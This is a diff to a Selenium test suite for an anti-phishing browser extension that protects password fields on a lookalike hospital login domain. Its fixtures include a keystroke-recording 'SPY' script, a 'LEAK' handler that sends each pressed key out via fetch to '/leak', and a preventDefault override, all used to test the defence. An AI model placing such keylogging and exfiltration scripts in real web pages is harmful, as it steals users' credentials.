@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import time
+
 import pytest
 from selenium.webdriver.common.action_chains import ActionChains
 from selenium.webdriver.common.by import By
@@ -11,9 +13,13 @@ from tests.extension.browsers import Browser
 from tests.extension.sites import LOGIN, Sites
 
 SUSPICIOUS = "chu-lile.fr"
-SPY = """<script>window.seen = []; for (const type of ["keydown", "keypress", "keyup", "input", "beforeinput", "paste", "drop"])
-for (const target of [window, document]) target.addEventListener(type, (e) => window.seen.push(type + ":" + (e.key ?? e.data ?? "")), true);
+SPY = """<script>window.seen = [];
+for (const type of ["keydown", "keypress", "keyup", "input", "beforeinput", "paste", "drop"])
+  for (const target of [window, document])
+    target.addEventListener(type, (e) => window.seen.push(type + ":" + (e.key ?? e.data ?? "")), true);
 </script>"""
+LEAK = "<script>addEventListener('keydown', (e) => fetch('/leak?' + e.key), true)</script>"
+DIGIT = '<input maxlength=1 aria-label="Code de sécurité">'
 FIELD = '<label>Mot de passe <input id="secret" type="password"></label>'
 
 PAGES = {
@@ -28,9 +34,9 @@ PAGES = {
     "late field": SPY + f"<div id=d></div><script>setTimeout(() => (d.innerHTML = `{FIELD}`), 300)</script>",
     "open shadow root": SPY + "<div id=d></div><script>const r = d.attachShadow({mode: 'open'});"
     f"r.innerHTML = `{FIELD}`; window.field = r.getElementById('secret')</script>" + FIELD,
-    "own keyboard handler": SPY + FIELD + "<script>addEventListener('keydown', (e) => fetch('/leak?' + e.key), true)</script>",
+    "own keyboard handler": SPY + FIELD + LEAK,
     "contenteditable": SPY + FIELD.replace("secret", "other") + '<div id="secret" contenteditable>&nbsp;</div>',
-    "one field per digit": SPY + "".join(f'<input {"id=secret" if n == 0 else ""} maxlength=1 aria-label="Code de sécurité">' for n in range(3)),
+    "one field per digit": SPY + DIGIT.replace("<input", "<input id=secret") + DIGIT * 2,
     "dialog": SPY + f"<dialog id=d>{FIELD}</dialog><script>d.showModal()</script>",
     "popover": SPY + f"<div id=d popover>{FIELD}</div><script>d.showPopover()</script>",
     "prototype hooks": SPY + FIELD + "<script>Event.prototype.preventDefault = () => {}; "
@@ -73,7 +79,8 @@ def test_the_patient_reads_goes_on_and_types(browser: Browser, sites: Sites) -> 
     browser.open(f"http://{SUSPICIOUS}/")
     browser.until(lambda: browser.driver.find_element(By.ID, "secret"))
     browser.click("#secret")
-    browser.until(lambda: browser.run("return document.querySelector('vigilien-message') !== null"))
+    browser.until(lambda: browser.run("return document.activeElement.localName === 'vigilien-message'"))
+    time.sleep(0.3)  # a patient reads before choosing
     ActionChains(browser.driver).send_keys(Keys.TAB).send_keys(Keys.ENTER).perform()
     browser.until(lambda: browser.run("return document.querySelector('vigilien-message') === null"))
     browser.keys("#secret", "maintenant")
@@ -136,7 +143,7 @@ def test_a_claim_is_noted_and_holds_nothing_back(browser: Browser, sites: Sites)
 
 def test_a_fake_in_a_frame_is_guarded(browser: Browser, sites: Sites) -> None:
     sites.pages["page-neutre.info"] = (
-        f'<!doctype html><iframe id="f" src="http://{SUSPICIOUS}/" width=600 height=400></iframe>'
+        f'<!doctype html><iframe id="f" src="//{SUSPICIOUS}/" width=600 height=400></iframe>'
     )
     sites.pages[SUSPICIOUS] = LOGIN.format(title="CHU")
     browser.open("http://page-neutre.info/")
